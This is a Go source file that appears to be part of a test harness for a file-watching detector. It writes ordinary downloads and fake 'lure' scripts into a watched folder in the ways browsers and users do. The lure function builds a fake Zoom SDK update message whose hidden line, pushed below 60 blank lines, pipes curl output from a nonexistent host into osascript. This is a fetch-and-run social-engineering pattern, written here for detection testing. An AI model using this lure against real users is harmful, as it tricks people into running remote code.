//go:build linux

package main

import (
	"archive/zip"
	"bytes"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
)

// lander puts files into a watched folder in the ways that people's programs do.
// Its files are inert; those of one seed are the same again.
type lander struct {
	dir     string // watched
	outside string // on the same file system, not watched
	rng     *rand.Rand
	program []byte // an honest program, to be different by what is behind its end
}

func newLander(dir, outside string, seed uint64) (*lander, error) {
	for _, d := range []string{dir, outside} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			return nil, err
		}
	}
	program, err := os.ReadFile("/bin/true")
	return &lander{dir: dir, outside: outside, rng: rand.New(rand.NewPCG(seed, 5)), program: program}, err
}

// lure is a script that claims to be of Zoom and fetches from a host that does
// not exist. No two are the same.
func lure(name string) []byte {
	return fmt.Appendf(nil, "-- Zoom SDK update: your audio component is out of date. Press Run. (%s)\n%sdo shell script \"curl -fsSL https://zoom-sdk-update.invalid/fix | osascript\"\n", name, strings.Repeat("\n", 60))
}

// clean makes an honest download and its extension. No two are the same.
func (l *lander) clean(n int) (data []byte, ext string) {
	head := fmt.Sprintf("Minutes of the meeting no. %d, taken by hand.\n", n)
	switch k := l.rng.IntN(100); {
	case k < 60:
		return append([]byte(head), l.prose(1<<10+l.rng.IntN(16<<10))...), ".txt"
	case k < 70:
		return append([]byte("when,who,what\n"), l.prose(4<<10)...), ".csv"
	case k < 78:
		return fmt.Appendf(nil, "<!doctype html><title>Minutes</title><p>%s<p>%s", head, l.prose(3<<10)), ".html"
	case k < 84:
		return l.archive(n, head), ".zip"
	case k < 88:
		return fmt.Appendf(nil, "#!/bin/sh\n# %secho %d\nls -l \"$HOME\"\n", head, n), ".sh"
	case k < 96:
		return append([]byte("\x89PNG\r\n\x1a\n"), l.noise(8<<10+l.rng.IntN(64<<10))...), ".png"
	}
	return append(bytes.Clone(l.program), head...), ""
}

func (l *lander) prose(size int) []byte {
	words := []string{"agenda", "budget", "next", "quarter", "we", "agreed", "that", "the", "room", "is", "booked", "until", "noon", "and", "somebody", "writes\n"}
	var b bytes.Buffer
	for b.Len() < size {
		b.WriteString(words[l.rng.IntN(len(words))])
		b.WriteByte(' ')
	}
	return b.Bytes()
}

func (l *lander) noise(size int) []byte {
	out := make([]byte, size)
	for i := range out {
		out[i] = byte(l.rng.Uint32())
	}
	return out
}

func (l *lander) archive(n int, head string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := range 3 {
		w, err := z.Create(fmt.Sprintf("notes-%d-%d.txt", n, i))
		if err == nil {
			_, err = w.Write(append([]byte(head), l.prose(2<<10)...))
		}
		if err != nil {
			panic(err) // into memory
		}
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// land lets a file land in one of the ways, which it names.
func (l *lander) land(name string, data []byte) (path, way string, err error) {
	path = filepath.Join(l.dir, name)
	switch l.rng.IntN(5) {
	case 0: // a browser
		return path, "part", renamed(path+".part", path, data)
	case 1: // another browser
		return path, "crdownload", renamed(path+".crdownload", path, data)
	case 2: // moved in
		return path, "moved", renamed(filepath.Join(l.outside, name), path, data)
	case 3: // in pieces
		return path, "pieces", inPieces(path, data)
	}
	return path, "written", os.WriteFile(path, data, 0o644)
}

func renamed(from, to string, data []byte) error {
	if err := os.WriteFile(from, data, 0o644); err != nil {
		return err
	}
	return os.Rename(from, to)
}

func inPieces(path string, data []byte) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	for len(data) > 0 && err == nil {
		n := min(len(data), 1+len(data)/3)
		_, err = f.Write(data[:n])
		data = data[n:]
	}
	if err != nil {
		f.Close()
		return err
	}
	return f.Close()
}
